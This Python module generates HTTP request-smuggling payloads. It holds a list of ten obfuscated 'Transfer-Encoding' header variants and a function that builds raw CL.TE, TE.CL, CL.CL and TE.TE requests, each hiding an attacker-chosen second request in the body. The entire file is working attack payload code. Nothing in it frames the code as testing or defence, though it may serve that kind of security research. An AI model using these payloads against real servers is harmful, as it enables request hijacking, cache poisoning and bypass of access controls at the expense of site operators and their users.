"""The classic request-smuggling shapes (CL.TE, TE.CL, TE.TE, CL.CL), each hiding a second request in a body."""

from __future__ import annotations

TE_SPELLINGS = [
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity, chunked, identity",
    b"Transfer-Encoding:\r\n chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: \x0bchunked",
]


def attacks(path: bytes, hidden: bytes) -> dict[str, bytes]:
    """Requests to `path` whose body, read by a parser that gets the framing wrong, ends in the request `hidden`."""
    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
    found = {
        "CL.TE": b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s"
        % (path, 5 + len(hidden), hidden),
        "TE.CL": b"POST %s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n%s"
        % (path, chunk),
        "CL.CL": b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n%s"
        % (path, len(hidden), hidden),
    }
    for index, spelling in enumerate(TE_SPELLINGS):
        found[f"TE.TE-{index}"] = b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n%s\r\n\r\n0\r\n\r\n%s" % (
            path,
            spelling,
            hidden,
        )
        found[f"TE.TE-{index}-reversed"] = b"POST %s HTTP/1.1\r\nHost: x\r\n%s\r\nContent-Length: %d\r\n\r\n%s" % (
            path,
            spelling,
            len(chunk),
            chunk,
        )
    return found
